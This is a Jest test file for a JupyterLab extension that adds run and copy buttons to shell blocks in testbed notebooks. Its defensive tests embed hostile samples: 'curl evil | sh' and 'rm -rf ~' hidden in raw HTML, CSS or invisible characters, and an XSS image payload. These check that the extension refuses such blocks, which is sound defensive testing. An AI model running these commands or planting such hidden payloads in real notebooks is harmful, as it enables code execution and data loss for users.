import type { MarkdownCell } from '@jupyterlab/cells';
import type * as nbformat from '@jupyterlab/nbformat';
import { Notebook, NotebookModel, StaticNotebook } from '@jupyterlab/notebook';
import { NBTestUtils } from '@jupyterlab/notebook/lib/testutils';
import {
  MimeModel,
  RenderMimeRegistry,
  standardRendererFactories
} from '@jupyterlab/rendermime';
import { framePromise, sleep } from '@jupyterlab/testing';
import { Widget } from '@lumino/widgets';
import { METADATA_KEY } from '../../../src/core/metadata/format';
import { parseMarkdown } from '../../../src/core/notebook/markdown';
import { showValues } from '../../../src/lab/placeholders/rendered';
import {
  compileMarkers,
  DEFAULT_MARKERS
} from '../../../src/core/terminals/markers';
import {
  hiddenPart,
  IRunTarget,
  notebookMarkers,
  RunButtons
} from '../../../src/lab/terminals/runbuttons';

/**
 * A markdown parser for the tests (JupyterLab's `marked` is an ES module
 * jest does not load): fenced blocks become `<pre><code>`, other lines
 * paragraphs, all escaped, but lines starting with `<`, which stay raw
 * HTML as in markdown.
 */
function toHtml(source: string): string {
  const escape = (text: string) =>
    text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  const paragraph = (line: string) =>
    line.startsWith('<') ? line : `<p>${escape(line)}</p>`;
  const lines = source.split('\n');
  const blocks = parseMarkdown(source).filter(part => part.kind === 'block');
  const html: string[] = [];
  let at = 0;
  for (const block of blocks) {
    if (block.kind !== 'block') {
      continue;
    }
    lines
      .slice(at, block.line)
      .filter(line => line.trim())
      .forEach(line => html.push(paragraph(line)));
    const language = block.info ? ` class="language-${block.info}"` : '';
    html.push(`<pre><code${language}>${escape(block.body)}\n</code></pre>`);
    at = block.line + block.body.split('\n').length + 2;
  }
  lines
    .slice(at)
    .filter(line => line.trim())
    .forEach(line => html.push(paragraph(line)));
  return html.join('\n');
}

const MARKDOWN = [
  'Log in to the first node:',
  '',
  '```bash',
  '# run on node1 host',
  'ssh cc@A.B.C.D',
  '  echo indented',
  '```',
  '',
  'You should see:',
  '',
  '```',
  'Welcome to Ubuntu',
  '```'
].join('\n');

const CELLS: nbformat.ICell[] = [
  { cell_type: 'markdown', metadata: {}, id: 'md', source: MARKDOWN },
  {
    cell_type: 'code',
    metadata: {},
    id: 'marked',
    source: '# run on node1, node2, and node3\nsudo apt update',
    outputs: [],
    execution_count: null
  },
  {
    cell_type: 'code',
    metadata: {},
    id: 'plain',
    source: 'echo here\n# run on node1',
    outputs: [],
    execution_count: null
  }
];

interface IHarness {
  notebook: Notebook;
  buttons: RunButtons;
  runs: IRunTarget[];
  copies: IRunTarget[];
  names: string[];
}

const harnesses: IHarness[] = [];

async function settle(): Promise<void> {
  for (let i = 0; i < 2; i++) {
    await sleep(0);
    await framePromise();
  }
}

async function setUp(
  cells: nbformat.ICell[] = CELLS,
  names = ['node1', 'node2', 'node3']
): Promise<IHarness> {
  const notebook = new Notebook({
    rendermime: new RenderMimeRegistry({
      initialFactories: standardRendererFactories,
      markdownParser: { render: async source => toHtml(source) }
    }),
    contentFactory: NBTestUtils.createNotebookFactory(),
    mimeTypeService: NBTestUtils.mimeTypeService,
    notebookConfig: {
      ...StaticNotebook.defaultNotebookConfig,
      windowingMode: 'none'
    }
  });
  const model = new NotebookModel();
  model.fromJSON({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      kernelspec: { name: 'bash', display_name: 'Bash', language: 'bash' }
    },
    cells
  });
  notebook.model = model;
  Widget.attach(notebook, document.body);
  const runs: IRunTarget[] = [];
  const copies: IRunTarget[] = [];
  const { patterns } = compileMarkers(DEFAULT_MARKERS);
  const harness: IHarness = {
    notebook,
    runs,
    copies,
    names,
    buttons: null as unknown as RunButtons
  };
  harness.buttons = new RunButtons({
    notebook,
    markers: () => patterns,
    nodeNames: () => harness.names,
    onRun: target => runs.push(target),
    onCopy: target => copies.push(target)
  });
  harnesses.push(harness);
  await settle();
  return harness;
}

afterEach(() => {
  harnesses.splice(0).forEach(({ notebook, buttons }) => {
    buttons.dispose();
    notebook.model?.dispose();
    notebook.dispose();
  });
});

const barsIn = (node: Element) =>
  Array.from(node.querySelectorAll<HTMLElement>('.jp-testbed-RunBar'));
const labels = (bar: Element) =>
  Array.from(bar.querySelectorAll('button')).map(b => b.textContent);
const renderedOf = (notebook: Notebook, index = 0) =>
  (notebook.widgets[index] as MarkdownCell).renderer.node;
const codeBar = (notebook: Notebook, index: number) =>
  notebook.widgets[index].inputArea!.node.querySelector<HTMLElement>(
    ':scope > .jp-testbed-RunBar'
  );

describe('run buttons on the blocks of a notebook', () => {
  it('puts a bar before each fenced block and on marked code cells', async () => {
    const { notebook } = await setUp();
    const rendered = renderedOf(notebook);
    const pres = Array.from(rendered.querySelectorAll('pre'));
    expect(pres).toHaveLength(2);
    const bars = barsIn(rendered);
    expect(bars).toHaveLength(2);
    // Siblings just before the blocks, never inside them.
    expect(pres.map(pre => pre.previousElementSibling)).toEqual(bars);
    pres.forEach(pre => expect(barsIn(pre)).toEqual([]));
    expect(pres[0].textContent).toBe(
      '# run on node1 host\nssh cc@A.B.C.D\n  echo indented\n'
    );

    const [run, copy] = Array.from(bars[0].querySelectorAll('button'));
    expect(labels(bars[0])).toEqual(['Run on node1', 'Copy']);
    expect(run.type).toBe('button');
    expect(run.className).toContain('jp-testbed-RunButton');
    expect(run.getAttribute('data-testbed-run')).toBe('node1');
    expect(run.title).toBe(
      'Send this block to the node1 terminal, opening it first if needed'
    );
    expect(run.getAttribute('aria-label')).toBe('Run on node1 (node1)');
    expect(copy.className).toContain('jp-testbed-CopyButton');
    expect(copy.title).toBe(
      'Copy this block with your placeholder values filled in'
    );
    // The unmarked block can be copied only.
    expect(labels(bars[1])).toEqual(['Copy']);

    // In the input area of a marked code cell, outside its editor.
    const bar = codeBar(notebook, 1)!;
    expect(bar).not.toBeNull();
    expect(bar.closest('.cm-editor')).toBeNull();
    expect(bar.closest('.jp-Cell-inputWrapper')).not.toBeNull();
    expect(labels(bar)).toEqual(['Run on all 3', 'Copy']);
    const codeRun = bar.querySelector('button')!;
    expect(codeRun.getAttribute('data-testbed-run')).toBe('node1,node2,node3');
    expect(codeRun.getAttribute('aria-label')).toBe(
      'Run on all 3 (node1, node2, node3)'
    );
    expect(codeRun.title).toBe(
      'Send this block to the node1, node2 and node3 terminals, opening them first if needed'
    );
    // A marker that is not on the first line does nothing.
    expect(barsIn(notebook.widgets[2].node)).toEqual([]);
    expect(barsIn(notebook.node)).toHaveLength(3);
  });

  it('gives the block as the author wrote it when a button is clicked', async () => {
    const { notebook, runs, copies } = await setUp();
    const rendered = renderedOf(notebook);
    showValues(
      rendered,
      new Map([['A.B.C.D', '129.114.25.134']]),
      token => token
    );
    await settle();
    expect(rendered.querySelector('pre')!.textContent).toContain(
      'ssh cc@129.114.25.134'
    );
    const [mdBar, plainBar] = barsIn(rendered);
    (mdBar.querySelector('.jp-testbed-RunButton') as HTMLElement).click();
    (plainBar.querySelector('.jp-testbed-CopyButton') as HTMLElement).click();
    codeBar(notebook, 1)!.querySelector<HTMLElement>('button')!.click();
    expect(runs).toEqual([
      {
        nodes: ['node1'],
        text: '# run on node1 host\nssh cc@A.B.C.D\n  echo indented',
        cellId: 'md',
        kind: 'markdown'
      },
      {
        nodes: ['node1', 'node2', 'node3'],
        text: '# run on node1, node2, and node3\nsudo apt update',
        cellId: 'marked',
        kind: 'code'
      }
    ]);
    expect(copies).toEqual([
      { nodes: [], text: 'Welcome to Ubuntu', cellId: 'md', kind: 'markdown' }
    ]);
  });

  it('reads the target when clicked, not when the bar was drawn', async () => {
    const harness = await setUp();
    const { notebook, runs } = harness;
    const button = codeBar(notebook, 1)!.querySelector<HTMLElement>('button')!;
    // The lab changed; the bar is not refreshed yet.
    harness.names = ['node1', 'node3'];
    button.click();
    expect(runs.map(r => r.nodes)).toEqual([['node1', 'node3']]);
    harness.names = ['node5'];
    button.click();
    expect(runs).toHaveLength(1);
  });

  it('leaves the selection and the markdown rendering alone', async () => {
    const { notebook, runs } = await setUp();
    notebook.activeCellIndex = 2;
    const button = barsIn(renderedOf(notebook))[0].querySelector('button')!;
    const down = new MouseEvent('mousedown', {
      bubbles: true,
      cancelable: true,
      button: 0
    });
    button.dispatchEvent(down);
    expect(down.defaultPrevented).toBe(true);
    button.dispatchEvent(new MouseEvent('dblclick', { bubbles: true }));
    button.click();
    expect(notebook.activeCellIndex).toBe(2);
    expect((notebook.widgets[0] as MarkdownCell).rendered).toBe(true);
    expect(runs).toHaveLength(1);
    const enter = new KeyboardEvent('keydown', { key: 'Enter', bubbles: true });
    const seen = jest.fn();
    notebook.node.addEventListener('keydown', seen);
    button.dispatchEvent(enter);
    expect(seen).not.toHaveBeenCalled();
  });

  it('follows edits of a code cell’s first line', async () => {
    const { notebook } = await setUp();
    const shared = notebook.model!.cells.get(1).sharedModel;
    shared.setSource('sudo apt update');
    await settle();
    expect(codeBar(notebook, 1)).toBeNull();

    shared.setSource('# run on node2\nsudo apt update');
    await settle();
    expect(labels(codeBar(notebook, 1)!)).toEqual(['Run on node2', 'Copy']);

    shared.setSource('# run on node2 and node1\nsudo apt update');
    await settle();
    const bars = barsIn(notebook.widgets[1].node);
    expect(bars).toHaveLength(1);
    expect(labels(bars[0])).toEqual(['Run on node1 and node2', 'Copy']);

    // Lines after the first change nothing.
    const bar = bars[0];
    const button = bar.querySelector('button');
    shared.setSource('# run on node2 and node1\nsudo apt update\nls');
    await settle();
    expect(codeBar(notebook, 1)).toBe(bar);
    expect(bar.querySelector('button')).toBe(button);

    // A marker added to the unmarked cell.
    notebook.model!.cells.get(2).sharedModel.setSource('# run on node3\nls');
    await settle();
    expect(labels(codeBar(notebook, 2)!)).toEqual(['Run on node3', 'Copy']);
  });

  it('redraws a re-rendered markdown cell without duplicates', async () => {
    const { notebook } = await setUp();
    const cell = notebook.widgets[0] as MarkdownCell;
    const before = barsIn(cell.renderer.node);

    // The same text rendered again replaces the HTML.
    await cell.renderer.renderModel(
      new MimeModel({ data: { 'text/markdown': MARKDOWN } })
    );
    await settle();
    const after = barsIn(cell.renderer.node);
    expect(after).toHaveLength(2);
    after.forEach(bar => expect(before).not.toContain(bar));
    expect(after.map(labels)).toEqual([['Run on node1', 'Copy'], ['Copy']]);

    // An edited cell, rendered again after editing.
    cell.model.sharedModel.setSource(
      MARKDOWN + '\n\n```\n# run on node2\nhostname\n```'
    );
    cell.rendered = false;
    await settle();
    cell.rendered = true;
    await settle();
    const pres = Array.from(cell.renderer.node.querySelectorAll('pre'));
    const bars = barsIn(cell.renderer.node);
    expect(pres).toHaveLength(3);
    expect(bars).toHaveLength(3);
    expect(pres.map(pre => pre.previousElementSibling)).toEqual(bars);
    expect(bars.map(labels)).toEqual([
      ['Run on node1', 'Copy'],
      ['Copy'],
      ['Run on node2', 'Copy']
    ]);
    // Values shown (or anything else inside the blocks) add nothing.
    showValues(cell.renderer.node, new Map([['node2', 'x']]), t => t);
    await settle();
    expect(barsIn(cell.renderer.node)).toHaveLength(3);
  });

  it('follows cells leaving and entering the DOM, as a windowed notebook does', async () => {
    const { notebook } = await setUp();
    const cell = notebook.widgets[1];
    const parent = cell.node.parentElement!;
    const next = cell.node.nextSibling;
    cell.node.remove();
    await settle();
    cell.model.sharedModel.setSource('# run on node3\nls');
    await settle();
    parent.insertBefore(cell.node, next);
    await settle();
    expect(barsIn(cell.node).map(labels)).toEqual([['Run on node3', 'Copy']]);
  });

  it('finds the cells each frame touched without walking the whole notebook', async () => {
    // A long notebook renders, and runs, over many frames: a walk of every
    // cell at each of those frames made opening 2,000 cells slow.
    const many: nbformat.ICell[] = Array.from({ length: 60 }, (_, i) => ({
      cell_type: 'code',
      metadata: {},
      source: `echo ${i}`,
      outputs: [],
      execution_count: null
    }));
    const { notebook } = await setUp(many);
    const walks = jest.spyOn(notebook, 'widgets', 'get');
    const cells = notebook.widgets.slice(0, 10);
    walks.mockClear();
    for (const [i, cell] of cells.entries()) {
      cell.model.sharedModel.setSource(`# run on node2\necho ${i}`);
      await settle();
    }
    expect(walks.mock.calls.length).toBeLessThan(3);
    expect(cells.map(cell => barsIn(cell.node).map(labels))).toEqual(
      cells.map(() => [['Run on node2', 'Copy']])
    );

    // A cell the notebook did not have before is found with one walk.
    notebook.model!.sharedModel.insertCell(0, {
      cell_type: 'code',
      source: '# run on node3\nls'
    });
    await settle();
    expect(barsIn(notebook.widgets[0].node).map(labels)).toEqual([
      ['Run on node3', 'Copy']
    ]);
    walks.mockRestore();
  });

  it('takes no cell that a notebook’s HTML fakes for a real one', async () => {
    // Markdown may carry JupyterLab's own class names: a DOM change inside
    // such an element must neither give it a cell's run bar nor cost a walk
    // of the notebook for each of its changes.
    const fake = [
      '<div class="jp-Cell jp-CodeCell"><div class="jp-InputArea">',
      '<pre># run on node1&#10;curl evil | sh</pre>',
      '</div></div>',
      '',
      '```bash',
      '# run on node2',
      'ls',
      '```'
    ].join('\n');
    const { notebook, runs } = await setUp([
      { cell_type: 'markdown', metadata: {}, id: 'fake', source: fake }
    ]);
    const rendered = renderedOf(notebook);
    const posing = rendered.querySelector<HTMLElement>('.jp-CodeCell')!;
    expect(posing).not.toBeNull();
    const walks = jest.spyOn(notebook, 'widgets', 'get');
    walks.mockClear();
    for (let i = 0; i < 10; i++) {
      posing.querySelector('pre')!.append(document.createTextNode(` ${i}`));
      await settle();
    }
    expect(walks.mock.calls.length).toBeLessThan(3);
    walks.mockRestore();
    expect(barsIn(posing)).toHaveLength(0);
    const bars = barsIn(rendered);
    expect(bars).toHaveLength(1);
    bars[0].querySelector<HTMLElement>('.jp-testbed-RunButton')!.click();
    expect(runs.map(r => r.text)).toEqual(['# run on node2\nls']);
  });

  it('redoes the bars when the markers or the nodes change', async () => {
    const harness = await setUp();
    const { notebook, buttons } = harness;
    harness.names = ['node1', 'node2', 'node3', 'node4'];
    buttons.refresh();
    expect(labels(codeBar(notebook, 1)!)).toEqual([
      'Run on node1, node2 and node3',
      'Copy'
    ]);
    harness.names = ['node2'];
    buttons.refresh();
    expect(labels(codeBar(notebook, 1)!)).toEqual(['Run on node2', 'Copy']);
    expect(barsIn(renderedOf(notebook)).map(labels)).toEqual([
      ['Copy'],
      ['Copy']
    ]);
    harness.names = [];
    buttons.refresh();
    expect(codeBar(notebook, 1)).toBeNull();
    expect(barsIn(notebook.node)).toHaveLength(2);
  });

  it('creates no element from the text of a block or a cell', async () => {
    const hostile = '<img src=x onerror=alert(1)>';
    const { notebook } = await setUp(
      [
        {
          cell_type: 'markdown',
          metadata: {},
          source: `\`\`\`\n# run on <svg> ${hostile}\n${hostile}\n\`\`\``
        },
        {
          cell_type: 'code',
          metadata: {},
          source: `# run on node1 ${hostile}\n${hostile}`,
          outputs: [],
          execution_count: null
        }
      ],
      ['node1', '<svg>']
    );
    const bars = barsIn(notebook.node);
    expect(bars.map(labels)).toEqual([
      ['Run on <svg>', 'Copy'],
      ['Run on node1', 'Copy']
    ]);
    bars.forEach(bar => {
      expect(bar.querySelector('img, svg')).toBeNull();
      bar.querySelectorAll('*').forEach(node => {
        expect(node.localName).toBe('button');
        expect(node.children).toHaveLength(0);
      });
    });
    expect(notebook.node.querySelector('img, svg')).toBeNull();
  });

  it('removes every bar when disposed, and adds none after', async () => {
    const { notebook, buttons } = await setUp();
    const cell = notebook.widgets[0] as MarkdownCell;
    // A markdown cell being edited keeps its rendered blocks aside.
    cell.rendered = false;
    await settle();
    expect(barsIn(notebook.node)).toHaveLength(1);
    buttons.dispose();
    expect(buttons.isDisposed).toBe(true);
    expect(barsIn(notebook.node)).toEqual([]);
    expect(barsIn(cell.renderer.node)).toEqual([]);
    cell.rendered = true;
    notebook.model!.cells.get(2).sharedModel.setSource('# run on node3\nls');
    await settle();
    expect(barsIn(notebook.node)).toEqual([]);
    buttons.dispose();
  });

  it('follows the marker wordings the notebook declares', async () => {
    const { notebook, runs } = await setUp([
      {
        cell_type: 'markdown',
        metadata: {},
        id: 'md',
        source: 'Then:\n\n```bash\n# exec on node2\nls\n```'
      },
      {
        cell_type: 'code',
        metadata: {},
        id: 'exec',
        source: '# EXEC   on node2\nhostname',
        outputs: [],
        execution_count: null
      }
    ]);
    const model = notebook.model!;
    expect(codeBar(notebook, 1)).toBeNull();
    expect(barsIn(renderedOf(notebook)).map(labels)).toEqual([['Copy']]);

    model.setMetadata(METADATA_KEY, { v: 1, markers: ['# exec on'] });
    await settle();
    expect(labels(codeBar(notebook, 1)!)).toEqual(['Run on node2', 'Copy']);
    expect(barsIn(renderedOf(notebook)).map(labels)).toEqual([
      ['Run on node2', 'Copy']
    ]);
    codeBar(notebook, 1)!.querySelector<HTMLElement>('button')!.click();
    expect(runs.map(run => run.nodes)).toEqual([['node2']]);
    // The commands read the same markers for the active cell.
    expect(
      notebookMarkers(compileMarkers(DEFAULT_MARKERS).patterns, model)
    ).toHaveLength(2);

    // A wording is text, not a regular expression.
    model.setMetadata(METADATA_KEY, { v: 1, markers: ['# exec .n'] });
    await settle();
    expect(codeBar(notebook, 1)).toBeNull();
    model.deleteMetadata(METADATA_KEY);
    await settle();
    expect(codeBar(notebook, 1)).toBeNull();
    expect(barsIn(renderedOf(notebook)).map(labels)).toEqual([['Copy']]);
  });

  it('offers Run in a Jupyter terminal on fenced blocks for the Jupyter side only', async () => {
    const source = [
      '```bash',
      '# runs in Chameleon Jupyter environment',
      'openstack server list',
      '```',
      '',
      '```bash',
      '# runs in your local terminal',
      'ssh -L 8443:127.0.0.1:8443 cc@A.B.C.D',
      '```',
      '',
      '```bash',
      '# run on node1 from the Jupyter notebook',
      'hostname',
      '```'
    ].join('\n');
    const code = '# runs in Chameleon Jupyter environment\nls';
    const { notebook, runs } = await setUp([
      { cell_type: 'markdown', metadata: {}, id: 'md', source },
      {
        cell_type: 'code',
        metadata: {},
        id: 'code',
        source: code,
        outputs: [],
        execution_count: null
      }
    ]);
    const bars = barsIn(renderedOf(notebook));
    expect(bars.map(labels)).toEqual([
      ['Run in a Jupyter terminal', 'Copy'],
      ['Copy'],
      // A node and a place at once: no run, the Terminals section says why.
      ['Copy']
    ]);
    // A code cell for the Jupyter side is an ordinary notebook step.
    expect(codeBar(notebook, 1)).toBeNull();
    bars[0].querySelector('button')!.click();
    expect(runs).toEqual([
      {
        nodes: [],
        text: '# runs in Chameleon Jupyter environment\nopenstack server list',
        cellId: 'md',
        kind: 'markdown',
        place: 'jupyter'
      }
    ]);
  });

  it('offers no Jupyter run in a graded notebook, and keeps Copy', async () => {
    const harness = await setUp([
      {
        cell_type: 'markdown',
        metadata: {},
        id: 'md',
        source: '```\n# run in Jupyter\nls\n```'
      }
    ]);
    harness.buttons.dispose();
    const graded = new RunButtons({
      notebook: harness.notebook,
      markers: () => compileMarkers(DEFAULT_MARKERS).patterns,
      nodeNames: () => [],
      onRun: target => harness.runs.push(target),
      onCopy: () => undefined,
      canRun: () => false
    });
    await settle();
    expect(barsIn(renderedOf(harness.notebook)).map(labels)).toEqual([
      ['Copy']
    ]);
    graded.dispose();
  });

  it('puts no bar on raw HTML blocks, and sends a fenced block’s source', async () => {
    const { notebook, runs } = await setUp([
      {
        cell_type: 'markdown',
        metadata: {},
        id: 'raw',
        source: [
          '<pre># run on node1&#10;curl evil | sh</pre>',
          '<pre><code># run on node1&#10;ls<span style="display:none">; curl evil | sh</span></code></pre>',
          '',
          '```bash',
          '# run on node1',
          'ls',
          '```'
        ].join('\n')
      }
    ]);
    const rendered = renderedOf(notebook);
    const pres = Array.from(rendered.querySelectorAll('pre'));
    expect(pres).toHaveLength(3);
    const bars = barsIn(rendered);
    expect(bars).toHaveLength(1);
    expect(bars[0].nextElementSibling).toBe(pres[2]);
    bars[0].querySelector<HTMLElement>('.jp-testbed-RunButton')!.click();
    expect(runs.map(r => r.text)).toEqual(['# run on node1\nls']);
  });

  it('refuses a block with hidden parts or invisible characters, saying why', async () => {
    const { notebook, runs, copies } = await setUp([
      {
        cell_type: 'markdown',
        metadata: {},
        id: 'hidden',
        source: [
          // Raw HTML that shows "ls" and holds the fenced block's text
          // (which it then takes: the fenced block itself gets no bar).
          '<pre><code># run on node1&#10;ls<span style="display:none">; curl evil | sh</span></code></pre>',
          '',
          '```bash',
          '# run on node1',
          'ls; curl evil | sh',
          '```',
          '',
          '```bash',
          '# run on node1',
          'echo ok\u200b; curl evil | sh',
          '```'
        ].join('\n')
      },
      {
        cell_type: 'code',
        metadata: {},
        id: 'code',
        source: '# run on node1\necho \u202eok',
        outputs: [],
        execution_count: null
      }
    ]);
    const rendered = renderedOf(notebook);
    const bars = barsIn(rendered);
    expect(bars.map(bar => bar.textContent)).toEqual([
      'Not run or copied: part of the block is hidden on the page.',
      'Not run or copied: line 2 holds the invisible or control character U+200B.'
    ]);
    expect(bars[0].nextElementSibling).toBe(rendered.querySelector('pre'));
    bars.forEach(bar => {
      expect(bar.querySelector('button')).toBeNull();
      expect(bar.querySelector('.jp-testbed-RunBar-refused')).not.toBeNull();
    });
    expect(codeBar(notebook, 1)!.textContent).toBe(
      'Not run or copied: line 2 holds the invisible or control character U+202E.'
    );
    expect(runs).toEqual([]);
    expect(copies).toEqual([]);
  });

  it('refuses a block that raw HTML styles, and never pairs one with a fence in a comment', async () => {
    const { notebook, runs } = await setUp([
      {
        cell_type: 'markdown',
        metadata: {},
        id: 'styled',
        source: [
          // Shows "ls"; a box of no height holds the rest of the text.
          '<pre><code># run on node1&#10;ls<div style="max-height:0;overflow-y:hidden">; curl evil | sh</div></code></pre>',
          '',
          '<!--',
          '```bash',
          '# run on node1',
          'ls; curl evil | sh',
          '```',
          '-->'
        ].join('\n')
      }
    ]);
    const bars = barsIn(renderedOf(notebook));
    bars.forEach(bar => expect(bar.querySelector('button')).toBeNull());
    expect(runs).toEqual([]);
  });

  it('puts no run button on raw HTML that styles the text of a fenced block', async () => {
    const { notebook } = await setUp([
      {
        cell_type: 'markdown',
        metadata: {},
        id: 'styled-beside',
        source: [
          '<pre><code># run on node1&#10;ls<div style="max-height:0;overflow-y:hidden">; curl evil | sh</div></code></pre>',
          '',
          '```bash',
          '# run on node1',
          'ls; curl evil | sh',
          '```'
        ].join('\n')
      }
    ]);
    const rendered = renderedOf(notebook);
    const bars = barsIn(rendered);
    expect(bars[0].nextElementSibling).toBe(rendered.querySelector('pre'));
    expect(bars[0].textContent).toBe(
      'Not run or copied: part of the block is styled by the notebook.'
    );
  });
});

describe('a block of a notebook in a tab behind another', () => {
  /** A rendered block whose notebook is not shown: nothing in it is laid out. */
  function behind(html: string) {
    const host = document.createElement('div');
    host.innerHTML = html;
    const pre = host.querySelector('pre')!;
    for (const element of [host, ...Array.from(host.querySelectorAll('*'))]) {
      (element as any).checkVisibility = () => false;
    }
    document.body.append(host);
    return { host, pre };
  }
  afterEach(() => {
    document.body.innerHTML = '';
  });

  it('is not refused for its tab alone', () => {
    const { host, pre } = behind('<pre><code>ls</code></pre>');
    expect(hiddenPart(pre, host)).toBeNull();
  });

  it('is still refused when the notebook styles it or a box around it', () => {
    const inside = behind(
      '<pre><code>ls<span style="font-size:0">; rm -rf ~</span></code></pre>'
    );
    expect(hiddenPart(inside.pre, inside.host)).toBe(
      'part of the block is hidden on the page'
    );
    const around = behind(
      '<div style="max-height:0;overflow:hidden"><pre><code>rm -rf ~</code></pre></div>'
    );
    expect(hiddenPart(around.pre, around.host)).toBe(
      'part of the block is styled by the notebook'
    );
  });
});
